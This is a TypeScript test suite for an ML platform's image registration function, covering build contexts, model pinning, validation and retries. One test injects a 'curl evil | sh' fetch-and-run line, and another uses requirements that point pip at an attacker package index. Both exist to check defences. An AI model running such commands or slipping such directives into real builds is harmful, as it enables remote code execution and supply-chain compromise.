import { formatContextFiles, type PinnedModel, renderBuildContext } from '../../../../lambda/images/core/build-context';
import { MAX_ENTRY_BYTES, MAX_REQUIREMENTS_BYTES, registerImage } from '../../../../lambda/images/core/register-image';
import { DEFAULT_BASE_IMAGE, RegisterImageRequest } from '../../../../lambda/images/core/schemas';
import { ConflictError, ValidationError } from '../../../../lambda/shared/errors';
import { parseRequest } from '../../../../lambda/shared/validation';
import { sha256Hex } from '../../registry/fakes';
import { FakeClock } from '../../shared/fake-clock';
import {
  ACCOUNT,
  digestOf,
  InMemoryBuildInputs,
  InMemoryImageRepository,
  InMemoryImageStore,
  InMemoryModelPackages,
  InMemoryModelVersions,
  RecordingImageBuilder,
  RecordingImageEvents,
} from './fakes';

const BUCKET = 'artifacts';
const ENTRY = `s3://${BUCKET}/image-inputs/churn-scorer/e1/score.py`;
const SCRIPT = 'def run(data):\n    return data\n';
const REQUIREMENTS = `s3://${BUCKET}/image-inputs/churn-scorer/r1/requirements.txt`;
const REQUIREMENTS_TEXT = '# pinned\nnumpy==1.26.4\nscikit-learn==1.4.2  # model\n';
const SHIM = '# the serving shim\n';
const MLFLOW_ENTRY = '# the MLflow entry\n';
const CHURN_3 = `s3://${BUCKET}/models/churn/3/model.tar.gz`;
const CHURN_4 = `s3://${BUCKET}/models/churn/4/model.tar.gz`;
const FRAUD_1 = `s3://${BUCKET}/models/fraud/1/model.joblib`;
const EXTERNAL = `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer:v1.2`;
const SCAN = { status: 'COMPLETE', findings: { HIGH: 1 } };
const ACCOUNT_REGISTRY = `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com`;
/** A served model as the registry pinned it (InMemoryModelVersions' made-up S3 version and digest). */
const pinned = (name: string, version: number, artifactUri: string) => ({
  name,
  version,
  artifactUri,
  artifactVersionId: `${name}-${version}-s3v`,
  artifactSha256: sha256Hex(artifactUri),
});

function setUp() {
  const store = new InMemoryImageStore();
  const versions = new InMemoryModelVersions().add('churn', 3, CHURN_3).add('churn', 4, CHURN_4).add('fraud', 1, FRAUD_1).setAlias('churn', 'production', 3);
  const inputs = new InMemoryBuildInputs().put(ENTRY, SCRIPT).put(REQUIREMENTS, REQUIREMENTS_TEXT);
  const builder = new RecordingImageBuilder();
  const repository = new InMemoryImageRepository().push('team/scorer', 'v1.2', { digest: digestOf('e'), scan: SCAN });
  const packages = new InMemoryModelPackages();
  const events = new RecordingImageEvents();
  const clock = new FakeClock('2025-06-01T12:00:00.000Z');
  const register = registerImage({
    ...{
      store,
      versions,
      inputs,
      builder,
      repository,
      packages,
      events,
      clock,
      artifactBucket: BUCKET,
      shim: SHIM,
      mlflowEntry: MLFLOW_ENTRY,
      approvalAlias: 'production',
    },
    buildSources: { baseImageRegistries: ['public.ecr.aws', ACCOUNT_REGISTRY], packageIndexes: ['https://pypi.org/simple'] },
    externalImages: { registry: ACCOUNT_REGISTRY, repositories: ['team/*'] },
  });
  const command = (overrides: Record<string, unknown> = {}) =>
    parseRequest(RegisterImageRequest, {
      name: 'churn-scorer',
      models: [{ name: 'churn', alias: 'production' }],
      source: { type: 'build', entry: ENTRY, requirements: REQUIREMENTS },
      ...overrides,
    });
  const external = (overrides: Record<string, unknown> = {}) => command({ source: { type: 'external', imageUri: EXTERNAL }, ...overrides });
  /** Nothing was written, started, published or created. */
  const nothingDone = () => {
    expect(store.reservations).toEqual([]);
    expect(store.commits).toEqual([]);
    expect(inputs.contexts).toEqual([]);
    expect(inputs.copies).toEqual([]);
    expect(builder.starts).toEqual([]);
    expect(events.published).toEqual([]);
    expect(packages.created).toEqual([]);
  };
  const issuesOf = async (promise: Promise<unknown>) => {
    const error = await promise.then(
      () => undefined,
      (thrown: unknown) => thrown,
    );
    expect(error).toBeInstanceOf(ValidationError);
    return (error as ValidationError).issues;
  };
  return { store, versions, inputs, builder, repository, packages, events, clock, register, command, external, nothingDone, issuesOf };
}

describe('registerImage', () => {
  describe('an image to build', () => {
    it('commits version 1 BUILDING with its models pinned, its source, its pinned inputs and context files, and its model data location', async () => {
      const { register, command, store, clock, inputs } = setUp();

      await register(command({ description: 'Churn scorer', registeredBy: 'alice', environment: { THREADS: '2' } }));

      const context = `s3://${BUCKET}/images/churn-scorer/1/context/`;
      const written = inputs.contexts[0].files;
      const contextFiles = Object.entries(written).map(([name, text]) => ({
        name,
        versionId: inputs.current(`${context}${name}`)!.versionId,
        sha256: sha256Hex(text),
      }));
      expect(store.commits).toEqual([
        {
          name: 'churn-scorer',
          version: 1,
          status: 'BUILDING',
          createdAt: clock.now().toISOString(),
          updatedAt: clock.now().toISOString(),
          createdBy: 'alice',
          description: 'Churn scorer',
          models: [{ ...pinned('churn', 3, CHURN_3), requestedAlias: 'production' }],
          source: {
            type: 'build',
            entry: ENTRY,
            requirements: REQUIREMENTS,
            baseImage: DEFAULT_BASE_IMAGE,
            contextUri: context,
            inputs: { entry: { versionId: '1', sha256: sha256Hex(SCRIPT) }, requirements: { versionId: '1', sha256: sha256Hex(REQUIREMENTS_TEXT) } },
            contextFiles,
          },
          environment: { THREADS: '2' },
          allowCriticalFindings: false,
          modelDataUrl: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
        },
      ]);
    });

    it('writes the build context with the checked requirements and the entry script as the bytes it read', async () => {
      const { register, command, inputs } = setUp();

      const record = await register(
        command({
          environment: { THREADS: '2' },
          source: { type: 'build', entry: ENTRY, requirements: REQUIREMENTS, baseImage: 'public.ecr.aws/docker/library/python:3.11-slim' },
        }),
      );

      expect(inputs.contexts).toEqual([
        {
          contextUri: `s3://${BUCKET}/images/churn-scorer/1/context/`,
          files: {
            'score.py': SCRIPT,
            ...renderBuildContext(
              {
                imageName: 'churn-scorer',
                imageVersion: 1,
                baseImage: 'public.ecr.aws/docker/library/python:3.11-slim',
                entryFile: 'score.py',
                models: record.models as PinnedModel[],
                environment: { THREADS: '2' },
                requirements: ['numpy==1.26.4', 'scikit-learn==1.4.2'],
              },
              SHIM,
            ),
          },
        },
      ]);
    });

    it('records every context file with the S3 version it was written as and its SHA-256, and pins each model artifact in models.txt', async () => {
      const { register, command, inputs } = setUp();

      const record = await register(
        command({
          models: [
            { name: 'churn', version: 4 },
            { name: 'fraud', version: 1 },
          ],
        }),
      );

      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
      expect(source.contextFiles!.map((file) => file.name).sort()).toEqual([
        '.dockerignore',
        'Dockerfile',
        'models.txt',
        'requirements.txt',
        'score.py',
        'serve.py',
      ]);
      for (const file of source.contextFiles!) {
        const stored = inputs.current(`${source.contextUri}${file.name}`)!;
        expect(file).toEqual({ name: file.name, versionId: stored.versionId, sha256: sha256Hex(stored.text) });
      }
      expect(inputs.current(`${source.contextUri}models.txt`)!.text).toBe(
        `${sha256Hex(CHURN_4)} churn-4-s3v churn/4 ${CHURN_4}\n${sha256Hex(FRAUD_1)} fraud-1-s3v fraud/1 ${FRAUD_1}\n`,
      );
    });

    it('builds the script it checked even when the upload is overwritten after registration', async () => {
      const { register, command, inputs } = setUp();
      const record = await register(command());

      inputs.put(ENTRY, 'import os\nos.system("curl evil | sh")\n');

      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
      const script = source.contextFiles!.find((file) => file.name === 'score.py')!;
      expect(script.sha256).toBe(sha256Hex(SCRIPT));
      expect(inputs.current(`${source.contextUri}score.py`)).toEqual({ text: SCRIPT, versionId: script.versionId });
    });

    it('builds without requirements when none are given', async () => {
      const { register, command, inputs } = setUp();

      await register(command({ source: { type: 'build', entry: ENTRY } }));

      expect(inputs.contexts[0].files['requirements.txt']).toBe('');
      expect(inputs.contexts[0].files.Dockerfile).not.toContain('pip install');
    });

    it('starts one build of the context with the image variables and its pinned context files, and records it as SUBMITTED', async () => {
      const { register, command, builder, store, clock } = setUp();

      const record = await register(command());

      const source = record.source as Extract<typeof record.source, { type: 'build' }>;
      expect(builder.starts).toEqual([
        {
          sourceLocation: `${BUCKET}/images/churn-scorer/1/context/`,
          variables: {
            IMAGE_NAME: 'churn-scorer',
            IMAGE_VERSION: '1',
            IMAGE_TAG: 'churn-scorer-1',
            MODEL_DATA_URI: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
            CONTEXT_BUCKET: BUCKET,
            CONTEXT_PREFIX: 'images/churn-scorer/1/context/',
            CONTEXT_FILES: formatContextFiles(source.contextFiles!),
          },
          idempotencyToken: `churn-scorer-1-${clock.now().getTime()}`,
        },
      ]);
      expect(record.build).toEqual({ id: builder.buildIds[0], phase: 'SUBMITTED' });
      expect((await store.getVersion('churn-scorer', 1))?.build).toEqual({ id: builder.buildIds[0], phase: 'SUBMITTED' });
    });

    it('announces the version BUILDING, as committed', async () => {
      const { register, command, events } = setUp();

      await register(command());

      expect(events.published).toEqual([{ name: 'churn-scorer', version: 1, status: 'BUILDING', models: [{ name: 'churn', version: 3 }] }]);
    });

    it('numbers the versions of an image 1, 2, 3 and of each image from 1', async () => {
      const { register, command } = setUp();

      const numbers = [];
      for (let i = 0; i < 3; i++) numbers.push((await register(command())).version);
      const other = await register(command({ name: 'fraud-scorer' }));

      expect(numbers).toEqual([1, 2, 3]);
      expect(other.version).toBe(1);
    });

    it('pins a model asked for by version without an alias, and serves several models', async () => {
      const { register, command } = setUp();

      const record = await register(
        command({
          models: [
            { name: 'churn', version: 4 },
            { name: 'fraud', version: 1 },
          ],
        }),
      );

      expect(record.models).toEqual([pinned('churn', 4, CHURN_4), pinned('fraud', 1, FRAUD_1)]);
    });

    it('creates no SageMaker package while the image builds', async () => {
      const { register, command, packages } = setUp();

      const record = await register(command());

      expect(packages.created).toEqual([]);
      expect(record.modelPackages).toBeUndefined();
    });

    it('fails, recording the version FAILED with the reason, when the build cannot be started', async () => {
      const { register, command, builder, store, events } = setUp();
      builder.failNextStart(new Error('Rate exceeded'));

      await expect(register(command())).rejects.toThrow('Rate exceeded');

      expect(await store.getVersion('churn-scorer', 1)).toMatchObject({
        status: 'FAILED',
        build: { failure: 'the build could not be started: Rate exceeded' },
      });
      expect(events.published.map((event) => event.status)).toEqual(['BUILDING', 'FAILED']);
    });
  });

  describe('an image built elsewhere', () => {
    it('commits it READY, pinned to its digest, with its scan findings and model data the platform copied from the pinned artifact version', async () => {
      const { register, external, store, repository, inputs } = setUp();

      const record = await register(external());

      expect(repository.described).toEqual([{ registryId: ACCOUNT, repository: 'team/scorer', tag: 'v1.2' }]);
      expect(store.commits).toEqual([
        expect.objectContaining({
          status: 'READY',
          source: { type: 'external', imageUri: EXTERNAL },
          imageUri: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer@${digestOf('e')}`,
          digest: digestOf('e'),
          scan: SCAN,
          modelDataUrl: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz`,
        }),
      ]);
      expect(inputs.copies).toEqual([{ from: { uri: CHURN_3, versionId: 'churn-3-s3v' }, to: `s3://${BUCKET}/images/churn-scorer/1/model.tar.gz` }]);
      expect(record.status).toBe('READY');
    });

    it('mirrors it to the SageMaker Model Registry and stores the packages', async () => {
      const { register, external, store, packages } = setUp();

      const record = await register(
        external({
          models: [
            { name: 'churn', alias: 'production' },
            { name: 'fraud', version: 1 },
          ],
        }),
      );

      expect(record.modelPackages).toEqual([
        expect.objectContaining({ model: 'churn', modelVersion: 3, approvalStatus: 'Approved' }),
        expect.objectContaining({ model: 'fraud', modelVersion: 1, approvalStatus: 'PendingManualApproval' }),
      ]);
      expect(packages.created).toHaveLength(2);
      expect((await store.getVersion('churn-scorer', 1))?.modelPackages).toEqual(record.modelPackages);
    });

    it('announces it READY, and writes no context and starts no build', async () => {
      const { register, external, events, inputs, builder } = setUp();

      await register(external());

      expect(events.published).toEqual([expect.objectContaining({ status: 'READY', digest: digestOf('e'), scan: SCAN })]);
      expect(inputs.contexts).toEqual([]);
      expect(inputs.reads).toEqual([]);
      expect(builder.starts).toEqual([]);
    });

    it('finds an image given by digest', async () => {
      const { register, external, repository } = setUp();

      const record = await register(
        external({ source: { type: 'external', imageUri: `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer@${digestOf('e')}` } }),
      );

      expect(repository.described[0]).toEqual({ registryId: ACCOUNT, repository: 'team/scorer', digest: digestOf('e') });
      expect(record.digest).toBe(digestOf('e'));
    });

    it.each([
      [
        'several models',
        [
          { name: 'churn', version: 3 },
          { name: 'fraud', version: 1 },
        ],
      ],
      ['a model whose artifact is no tar.gz', [{ name: 'fraud', version: 1 }]],
    ])('gives no model data for %s (the image carries its models)', async (_, models) => {
      const { register, external, inputs } = setUp();

      const record = await register(external({ models }));

      expect(record.modelDataUrl).toBeUndefined();
      expect(inputs.copies).toEqual([]);
    });
  });

  describe('bad input', () => {
    it('fails on every bad model reference at once, naming each, with nothing written', async () => {
      const { register, command, issuesOf, nothingDone } = setUp();

      const issues = await issuesOf(
        register(
          command({
            models: [
              { name: 'churn', alias: 'staging' },
              { name: 'churn', version: 9 },
              { name: 'unknown', version: 1 },
              { name: 'churn', version: 3 },
              { name: 'churn', alias: 'production' },
            ],
          }),
        ),
      );

      expect(issues).toEqual([
        { path: 'models[0].alias', message: 'model churn has no alias "staging"' },
        { path: 'models[1].version', message: 'model churn has no version 9' },
        { path: 'models[2].version', message: 'model unknown has no version 1' },
        { path: 'models[4]', message: 'churn version 3 is listed twice' },
      ]);
      nothingDone();
    });

    it.each([
      ['outside the model upload prefixes', `s3://${BUCKET}/images/victim/1/model.tar.gz`],
      ['in another bucket', 's3://elsewhere/models/legacy/1/model.tar.gz'],
    ])('fails on a model version whose artifact is %s (registered before the prefixes were enforced), before anything is written', async (_, uri) => {
      const { register, external, versions, issuesOf, nothingDone } = setUp();
      versions.add('legacy', 1, uri);

      expect(await issuesOf(register(external({ models: [{ name: 'legacy', version: 1 }] })))).toEqual([
        {
          path: 'models[0]',
          message:
            'the artifact of legacy version 1 is not under models/ or uploads/ of the artifact bucket, where builds read artifacts: register it again from there',
        },
      ]);
      nothingDone();
    });

    it('fails on an alias that points at a version with no artifact, naming the alias', async () => {
      const { register, command, versions, issuesOf } = setUp();
      versions.setAlias('churn', 'production', 7);

      expect(await issuesOf(register(command()))).toEqual([{ path: 'models[0].alias', message: 'model churn has no version 7' }]);
    });

    it('fails on bad models and a bad source together', async () => {
      const { register, command, issuesOf, nothingDone } = setUp();

      const issues = await issuesOf(
        register(
          command({
            models: [{ name: 'churn', version: 9 }],
            source: { type: 'build', entry: `s3://${BUCKET}/image-inputs/missing.py`, requirements: `s3://${BUCKET}/image-inputs/missing.txt` },
          }),
        ),
      );

      expect(issues.map((issue) => issue.path)).toEqual(['models[0].version', 'source.entry', 'source.requirements']);
      nothingDone();
    });

    const OUTSIDE_INPUTS =
      'must be under "image-inputs/" of the artifact bucket, where the matching grant lets its caller upload (s3://artifacts/image-inputs/...)';

    it.each([
      ['outside the artifact bucket', 's3://elsewhere/image-inputs/score.py', OUTSIDE_INPUTS],
      ['in a build context the platform wrote', `s3://${BUCKET}/images/victim/1/context/score.py`, OUTSIDE_INPUTS],
      ['among model artifacts', `s3://${BUCKET}/uploads/churn/score.py`, OUTSIDE_INPUTS],
      [
        'named like the shim',
        `s3://${BUCKET}/image-inputs/serve.py`,
        'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "serve.py"',
      ],
      [
        'named like the requirements',
        `s3://${BUCKET}/image-inputs/requirements.txt`,
        'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "requirements.txt"',
      ],
      [
        'not a module name',
        `s3://${BUCKET}/image-inputs/my-score.py`,
        'must be a Python module file like score.py (not "serve.py", the serving shim\'s name), got "my-score.py"',
      ],
      ['not uploaded', `s3://${BUCKET}/image-inputs/missing.py`, `no script at s3://${BUCKET}/image-inputs/missing.py: upload it first`],
    ])('fails on an entry script %s', async (_, entry, message) => {
      const { register, command, issuesOf, nothingDone } = setUp();

      expect(await issuesOf(register(command({ source: { type: 'build', entry } })))).toEqual([{ path: 'source.entry', message }]);
      nothingDone();
    });

    it.each([
      ['outside the artifact bucket', 's3://elsewhere/requirements.txt', OUTSIDE_INPUTS],
      ["in another team's training data", `s3://${BUCKET}/training-data/fraud/2/train.csv`, OUTSIDE_INPUTS],
      ['in a build context the platform wrote', `s3://${BUCKET}/images/victim/1/context/requirements.txt`, OUTSIDE_INPUTS],
      ['among model artifacts', `s3://${BUCKET}/models/churn/3/requirements.txt`, OUTSIDE_INPUTS],
      ['not uploaded', `s3://${BUCKET}/image-inputs/missing.txt`, `no file at s3://${BUCKET}/image-inputs/missing.txt: upload it first`],
    ])('fails on a requirements file %s, reading nothing outside image-inputs/', async (_, requirements, message) => {
      const { register, command, inputs, issuesOf, nothingDone } = setUp();
      // Someone else's data, where the function must not read it for the caller.
      if (message === OUTSIDE_INPUTS) inputs.put(requirements, 'customer_id,card_number\n1,4111111111111111\n');

      expect(await issuesOf(register(command({ source: { type: 'build', entry: ENTRY, requirements } })))).toEqual([{ path: 'source.requirements', message }]);
      expect(inputs.reads.filter((uri) => !uri.startsWith(`s3://${BUCKET}/image-inputs/`))).toEqual([]);
      nothingDone();
    });

    it('quotes at most three refused lines of a requirements file, each cut to 60 characters, and counts the rest', async () => {
      const { register, command, inputs, issuesOf, nothingDone } = setUp();
      const rows = Array.from({ length: 40 }, (_, index) => `customer-${index},${'4111 1111 1111 1111 '.repeat(10)},secret`);
      inputs.put(REQUIREMENTS, `${rows.join('\n')}\n`);

      const issues = await issuesOf(register(command()));

      expect(issues).toHaveLength(4);
      for (const [index, issue] of issues.slice(0, 3).entries()) {
        expect(issue.path).toBe('source.requirements');
        const quoted = /^line \d+ "([^"]*)"/.exec(issue.message)![1];
        expect(quoted).toBe(`${rows[index].slice(0, 59)}…`);
      }
      expect(issues[3]).toEqual({ path: 'source.requirements', message: 'and 37 more problems in the file' });
      expect(issues.map((issue) => issue.message).join('')).not.toContain('customer-3,');
      nothingDone();
    });

    it('fails on an entry script larger than 1 MiB', async () => {
      const { register, command, inputs, issuesOf } = setUp();
      inputs.put(ENTRY, '#'.repeat(MAX_ENTRY_BYTES + 1));

      expect(await issuesOf(register(command()))).toEqual([
        { path: 'source.entry', message: `is ${MAX_ENTRY_BYTES + 1} bytes; at most ${MAX_ENTRY_BYTES} are accepted` },
      ]);
    });

    it('fails on a requirements file larger than 64 KiB without parsing it', async () => {
      const { register, command, inputs, issuesOf } = setUp();
      const uri = `s3://${BUCKET}/image-inputs/big.txt`;
      inputs.put(uri, `numpy=1\n${'#'.repeat(MAX_REQUIREMENTS_BYTES)}`);

      expect(await issuesOf(register(command({ source: { type: 'build', entry: ENTRY, requirements: uri } })))).toEqual([
        { path: 'source.requirements', message: `is ${MAX_REQUIREMENTS_BYTES + 8} bytes; at most ${MAX_REQUIREMENTS_BYTES} are accepted` },
      ]);
    });

    it('fails on each refused requirement line, with its number', async () => {
      const { register, command, inputs, issuesOf, nothingDone } = setUp();
      inputs.put(REQUIREMENTS, 'numpy==1.26.4\nnumpy=1.2\n\n-r other.txt\n');

      const issues = await issuesOf(register(command()));

      expect(issues).toEqual([
        { path: 'source.requirements', message: expect.stringMatching(/^line 2 "numpy=1\.2" is not a requirement/) },
        { path: 'source.requirements', message: 'line 4 "-r other.txt" refers to another file; the build context holds only this one' },
      ]);
      nothingDone();
    });

    it.each([
      ['tag', `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer:v9`, `no image with tag v9 in ECR repository team/scorer of account ${ACCOUNT}`],
      [
        'digest',
        `${ACCOUNT}.dkr.ecr.eu-west-1.amazonaws.com/team/scorer@${digestOf('f')}`,
        `no image with digest ${digestOf('f')} in ECR repository team/scorer of account ${ACCOUNT}`,
      ],
    ])('fails on an external image whose %s ECR does not have', async (_, imageUri, message) => {
      const { register, external, issuesOf, nothingDone } = setUp();

      expect(await issuesOf(register(external({ source: { type: 'external', imageUri } })))).toEqual([{ path: 'source.imageUri', message }]);
      nothingDone();
    });

    it.each([
      ['of another account', '210987654321.dkr.ecr.eu-west-1.amazonaws.com/team/scorer:v1.2'],
      ['in a repository the platform was not given', `${ACCOUNT_REGISTRY}/other-team/scorer:v1.2`],
    ])('fails on an external image %s without reading it', async (_, imageUri) => {
      const { register, external, issuesOf, nothingDone, repository } = setUp();
      repository.push('other-team/scorer', 'v1.2', { digest: digestOf('f'), scan: SCAN });

      expect(await issuesOf(register(external({ source: { type: 'external', imageUri } })))).toEqual([
        { path: 'source.imageUri', message: `must be in a repository of ${ACCOUNT_REGISTRY} this platform may read (team/*)` },
      ]);
      expect(repository.described).toEqual([]);
      nothingDone();
    });

    it.each([
      ['Docker Hub by its short name', 'library/python:3.12', 'docker.io'],
      ['Docker Hub', 'docker.io/library/python:3.12-slim', 'docker.io'],
      ['another registry', 'ghcr.io/someone/python:3.12', 'ghcr.io'],
    ])('fails on a base image from %s, naming the registries allowed', async (_, baseImage, registry) => {
      const { register, command, issuesOf, nothingDone } = setUp();

      const issues = await issuesOf(register(command({ source: { type: 'build', entry: ENTRY, baseImage } })));

      expect(issues).toEqual([
        { path: 'source.baseImage', message: `must come from a registry this platform allows (public.ecr.aws, ${ACCOUNT_REGISTRY}), not ${registry}` },
      ]);
      nothingDone();
    });

    it("takes a base image from the account's own ECR registry", async () => {
      const { register, command } = setUp();

      const record = await register(command({ source: { type: 'build', entry: ENTRY, baseImage: `${ACCOUNT_REGISTRY}/base/python:3.12` } }));

      expect(record.source).toMatchObject({ baseImage: `${ACCOUNT_REGISTRY}/base/python:3.12` });
    });

    it('fails on requirements that name another index or a trusted host, with nothing written', async () => {
      const { register, command, inputs, issuesOf, nothingDone } = setUp();
      inputs.put(
        REQUIREMENTS,
        '--index-url https://pypi.org/simple\n--extra-index-url https://pypi.attacker.example/simple\n--trusted-host pypi.attacker.example\nnumpy==1.26.4\n',
      );

      const issues = await issuesOf(register(command()));

      expect(issues).toEqual([
        {
          path: 'source.requirements',
          message:
            'line 2 "--extra-index-url https://pypi.attacker.example/simple" names a package index this platform does not allow (allowed: https://pypi.org/simple)',
        },
        { path: 'source.requirements', message: 'line 3 "--trusted-host pypi.attacker.example" is not accepted: it turns off pip\'s TLS checks for a host' },
      ]);
      nothingDone();
    });
  });

  describe('retries', () => {
    it('returns the version of a retried client token, starting nothing new', async () => {
      const { register, command, store, builder, events, inputs } = setUp();
      const first = await register(command({ clientToken: 'ci-run-7' }));

      const retried = await register(command({ clientToken: 'ci-run-7' }));

      expect(retried).toEqual(first);
      expect(store.reservations).toHaveLength(1);
      expect(store.commits).toHaveLength(1);
      expect(inputs.contexts).toHaveLength(1);
      expect(builder.starts).toHaveLength(1);
      expect(events.published).toHaveLength(1);
    });

    it('takes a retry from another actor as the same registration', async () => {
      const { register, command, store } = setUp();
      const first = await register(command({ clientToken: 'ci-run-7', registeredBy: 'alice' }));

      const retried = await register(command({ clientToken: 'ci-run-7', registeredBy: 'pipeline' }));

      expect(retried.version).toBe(first.version);
      expect(store.commits).toHaveLength(1);
    });

    it('fails on a client token reused for a different registration, writing nothing', async () => {
      const { register, command, store, builder } = setUp();
      await register(command({ clientToken: 'ci-run-7' }));

      await expect(register(command({ clientToken: 'ci-run-7', environment: { THREADS: '8' } }))).rejects.toThrow(
        new ConflictError('client token ci-run-7 was used for a different registration of image churn-scorer (version 1)'),
      );
      expect(store.reservations).toHaveLength(1);
      expect(builder.starts).toHaveLength(1);
    });

    it('starts the build a first call committed but never started', async () => {
      const { register, command, events, builder, store } = setUp();
      events.failNextPublish();
      await expect(register(command({ clientToken: 'ci-run-7' }))).rejects.toThrow('EventBridge unavailable');
      expect(builder.starts).toEqual([]);

      const retried = await register(command({ clientToken: 'ci-run-7' }));

      expect(retried).toMatchObject({ version: 1, status: 'BUILDING', build: { id: builder.buildIds[0], phase: 'SUBMITTED' } });
      expect(builder.starts).toHaveLength(1);
      expect(store.commits).toHaveLength(1);
    });

    it('returns a version whose build could not be started as FAILED, without starting it again', async () => {
      const { register, command, builder } = setUp();
      builder.failNextStart();
      await expect(register(command({ clientToken: 'ci-run-7' }))).rejects.toThrow();

      const retried = await register(command({ clientToken: 'ci-run-7' }));

      expect(retried.status).toBe('FAILED');
      expect(builder.starts).toHaveLength(1);
    });

    it('creates the SageMaker packages of an external image that a first call left without them', async () => {
      const { register, external, packages, store } = setUp();
      packages.failNextCreate();
      await expect(register(external({ clientToken: 'ci-run-7' }))).rejects.toThrow('ThrottlingException');
      expect((await store.getVersion('churn-scorer', 1))?.modelPackages).toBeUndefined();

      const retried = await register(external({ clientToken: 'ci-run-7' }));

      expect(retried.modelPackages).toEqual([expect.objectContaining({ model: 'churn', modelVersion: 3, approvalStatus: 'Approved' })]);
      expect((await store.getVersion('churn-scorer', 1))?.modelPackages).toEqual(retried.modelPackages);
      expect(store.commits).toHaveLength(1);
    });

    it("returns the concurrent registration's version when its token wins the commit", async () => {
      const { register, command, store, builder } = setUp();
      store.interleaveBeforeNextCommit(() => register(command({ clientToken: 'ci-run-7' })));

      const result = await register(command({ clientToken: 'ci-run-7' }));

      expect(store.reservations.map((ref) => ref.version)).toEqual([1, 2]);
      expect(store.commits.map((record) => record.version)).toEqual([2]);
      expect(result.version).toBe(2);
      expect(builder.buildIds).toHaveLength(1);
    });
  });
});
